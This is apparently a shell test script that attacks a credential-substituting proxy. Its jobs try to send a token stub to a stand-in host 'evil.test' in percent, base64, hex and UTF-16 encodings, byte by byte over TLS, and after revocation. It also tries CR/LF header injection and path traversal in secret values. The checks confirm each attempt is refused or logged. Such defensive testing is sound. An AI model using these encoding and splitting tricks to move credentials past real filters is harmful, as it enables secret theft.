#!/bin/sh
# Attacks on the stub in other forms and pieces, on values inside responses,
# and on what a credential may be.  Numbers: README.md here.
# shellcheck disable=SC2016
# shellcheck source=lib.sh
. "$BRIG_SRCDIR/tests/attack/lib.sh"
attack_setup attack-forms

G="https://good.test:$GOOD"
E="https://evil.test:$EVIL"
auth='-H "Authorization: Bearer $GOOD_TOKEN"'
# A credential whose stub may stand in a query, a path and JSON.
printf %s "$CANARY" >"$T/wide"
stop_brigd
start_origin wide.test
WIDE=$ORIGIN_PORT
sed -i "s/^resolve evil.test.*/&\nresolve wide.test 127.0.0.1/" "$T/brigd.conf"
attack_policy "allow http {GET,POST} https://wide.test:$WIDE/**;" \
    "allow net 127.0.0.1:$WIDE;"
start_brigd
WIDE_REAL="wide-$(random_token)"
printf %s "$WIDE_REAL" | brig secret add wide --host "wide.test:$WIDE" \
    --surface query:key --surface path --surface body:json --env WIDE_TOKEN \
    >/dev/null
W="https://wide.test:$WIDE"

# 03, 04: every encoding of a stub in a query to a host that it is not for.
job 'stub=$GOOD_TOKEN python3 - <<"PY_END" >/workspace/forms
import base64, os
s = os.environ["stub"].encode()
pct = "".join("%%%02x" % c for c in s)
mixed = "".join("%%%02X" % c if i % 2 else chr(c) for i, c in enumerate(s))
print("raw", s.decode())
print("percent", pct)
print("mixed", mixed)
print("double", pct.replace("%", "%25"))
print("json", "".join("\\u%04x" % c for c in s).replace("\\", "%5C"))
for pad in ("", "x", "xx"):
    b = base64.b64encode(pad.encode() + s + b"yz").decode()
    print("base64" + pad, b.replace("+", "%2B").replace("/", "%2F"))
    print("base64url" + pad, base64.urlsafe_b64encode(
        pad.encode() + s + b"yz").decode())
print("hex", s.hex())
print("hexupper", s.hex().upper())
print("utf16le", "".join("%%%02x%%00" % c for c in s))
print("utf16be", "".join("%%00%%%02x" % c for c in s))
PY_END
while read -r name form; do
    code=$(curl -g -sS -m 10 -o /dev/null -w "%{http_code}" \
        "'"$E"'/a03-$name?t=$form")
    echo "$name $code"
done </workspace/forms; curl -sS "'"$E"'/a03-control?t=nothing"'
check "03 control: a query of that kind passes without a stub" \
    reached evil.test /a03-control
while read -r name _; do
    check "03 stub as $name in a query elsewhere: refused" \
        job_says "$name 403"
    check "03 and not passed on as $name" not_reached evil.test "/a03-$name?"
done <"$T/ws/forms"
check "03 the attempts are in the audit log" audited SE401 /a03-double

# 04: in a body, where it is recorded and let pass: the value stays away.
job 's=$(printf %s "$GOOD_TOKEN" | sed "s/./\\\\u00&/g")
python3 -c "
import os
print(\"{\\\"a\\\":\\\"\" + \"\".join(\"\\\\u%04x\" % ord(c)
    for c in os.environ[\"GOOD_TOKEN\"]) + \"\\\"}\")" >/tmp/body
curl -sS -H "Content-Type: application/json" --data-binary @/tmp/body \
    '"$E"'/a04-json; cp /tmp/body /workspace/a04'
check "04 control: the escaped body reached the other host" \
    reached evil.test /a04-json
check "04 it is on record" audited SE101 /a04-json

# 06: one byte at a time, in TLS records of their own, and in chunks of one.
job 'cat >/tmp/split.py <<"PY_END"
import os, socket, ssl, sys
host, port, path, how = sys.argv[1:]
stub = os.environ["GOOD_TOKEN"]
c = ssl.create_default_context().wrap_socket(
    socket.create_connection((host, int(port))), server_hostname=host)
c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
at = "%s:%s" % (host, port)
if how == "head":
    data = ("GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n"
            "Connection: close\r\n\r\n" % (path, at, stub)).encode()
    for i in range(len(data)):
        c.sendall(data[i:i + 1])
else:
    c.sendall(("POST %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n"
               "Transfer-Encoding: chunked\r\n\r\n" % (path, at)).encode())
    for ch in "a" + stub + "b":
        c.sendall(b"1\r\n" + ch.encode() + b"\r\n")
    c.sendall(b"0\r\n\r\n")
out = b""
while (got := c.recv(65536)):
    out += got
print(out.split(b"\r\n")[0].decode())
PY_END
python3 /tmp/split.py good.test '"$GOOD"' /a06-good head
python3 /tmp/split.py evil.test '"$EVIL"' /a06-evil head
python3 /tmp/split.py evil.test '"$EVIL"' /a06-body body'
check "06 control: byte by byte to its own host it is swapped" sh -c \
    'grep a06-good "$0" | grep -qF "Bearer $1"' "$T/good.test.rec" "$CANARY"
check "06 byte by byte to another host: refused" job_says " 403 "
check "06 and not passed on" not_reached evil.test /a06-evil
check "06 in chunks of one byte in a body: on record" \
    audited SE101 /a06-body

# 07: an API that gives back what it got in a body.
direct_curl wide.test "$WIDE" -d "{\"k\":\"$WIDE_REAL\"}" "$W/reply?07"
check "07 control: the API gives back what it gets" \
    grep -qF "$WIDE_REAL" "$T/outside.out"
job "curl -sS -H 'Content-Type: application/json' \
    -d \"{\\\"k\\\":\\\"\$WIDE_TOKEN\\\"}\" $W/reply?07; echo; echo stub=\$WIDE_TOKEN"
check "07 the API got the real value" reached wide.test "$WIDE_REAL"
check "07 the job sees the stub in its place" sh -c \
    's=$(sed -n "s/^stub=//p" "$0"); [ "$(grep -cF "$s" "$0")" -ge 2 ]' \
    "$T/job.out"
check "07 and not the value" job_does_not_say "$WIDE_REAL"

# 09: parts of a response, so that no part holds the whole value.
job "curl -sS -D - $auth -H 'Range: bytes=0-9' $G/leak?09a
curl -sS -D - $auth -H 'Range: bytes=5-20,30-60' -H 'If-Range: x' $G/leak?09b
curl -sS $auth -H 'Accept-Encoding: zstd;q=0.1, sdch, compress, *' $G/leak?09c"
check "09 control: the requests arrived" reached good.test "/leak?09b"
check "09 none asked the host for a part" sh -c \
    '! grep -F "leak?09" "$0" | grep -qiE "\"?(if-)?range"' \
    "$T/good.test.rec"
check "09 nor for a coding that cannot be read" sh -c \
    '! grep -F "leak?09c" "$0" | grep -q sdch' \
    "$T/good.test.rec"
check "09 the job sees no value" no_canary "$T/job.out"

# 14: after a revocation, also on a connection from before.
job 'mkfifo /tmp/q; (
    printf "GET /a14-before HTTP/1.1\r\nHost: good.test:'"$GOOD"'\r\nAuthorization: Bearer %s\r\n\r\n" "$GOOD_TOKEN"
    until [ -e /workspace/a14.revoked ]; do sleep 0.1; done
    printf "GET /a14-after HTTP/1.1\r\nHost: good.test:'"$GOOD"'\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" "$GOOD_TOKEN"
    sleep 1) | timeout 20 openssl s_client -quiet -ign_eof \
        -connect good.test:'"$GOOD"' -servername good.test 2>/dev/null' &
job_pid=$!
wait_for 10 reached good.test /a14-before
check "14 control: before the revocation it is swapped" sh -c \
    'grep a14-before "$0" | grep -qF "Bearer $1"' "$T/good.test.rec" "$CANARY"
brig secret revoke good >/dev/null
touch "$T/ws/a14.revoked"
wait $job_pid
check "14 afterwards, on the same connection: refused" job_says " 403 "
check "14 and not passed on" not_reached good.test /a14-after
printf %s "$CANARY" | brig secret rotate good >/dev/null

# 16, 17: what a value may be, and what a swapped part of a path becomes.
bad_value() {
    # shellcheck disable=SC2059
    ! printf "$2" | brig secret add "$1" --host "wide.test:$WIDE" \
        --surface header:X-Key >"$T/out16" 2>&1
}
check "16 a value with CR and LF is refused" \
    bad_value a16-crlf 'abcdefghij\r\nX-Evil: 1klmnop'
check "16 one with NUL is refused" bad_value a16-nul 'abcdefghij\000klmnopqrst'
check "16 control: one without is taken" sh -c \
    'printf abcdefghijklmnopqrst | brig secret add a16-fine \
        --host "wide.test:$0" --surface header:X-Key' "$WIDE"
printf %s "aaaa/../../b%2fc?d#e&f" | brig secret add a17 \
    --host "wide.test:$WIDE" --surface path --surface query:q17 \
    --env A17 >/dev/null 2>"$T/out17" || :
job "curl -sS -m 10 --path-as-is $W/a17/x/\$A17/y; curl -sS -m 10 \
    --path-as-is \"$W/a17q?q17=\$A17\""
check "17 a value with ../ becomes no other path" sh -c \
    '! grep a17 "$0" | grep -qE "aaaa/|/\.\./|\?d|#e"' "$T/wide.test.rec"

# 20: two places at once.
job "curl -sS -m 10 $auth $auth -o /dev/null -w 'two %{http_code}\n' $G/a20-two
curl -sS -m 10 $auth -o /dev/null -w 'query %{http_code}\n' \
    \"$G/a20-query?t=\$GOOD_TOKEN\""
check "20 two fields with stubs: refused, or one value" sh -c '
    grep -qE "two 4" "$0" || [ "$(grep a20-two "$1" | grep -oF "$2" |
        wc -l)" -le 1 ]' "$T/job.out" "$T/good.test.rec" "$CANARY"
check "20 a stub in the header and in the query: refused" job_says "query 403"
check "20 and not passed on" not_reached good.test /a20-query

check "no value of this credential anywhere else" sh -c '
    ! grep -lF "$0" "$T"/log/*.jsonl "$T/brigd.log" "$T/evil.test.rec" \
        "$T/good.test.rec"' "$WIDE_REAL"
attack_end
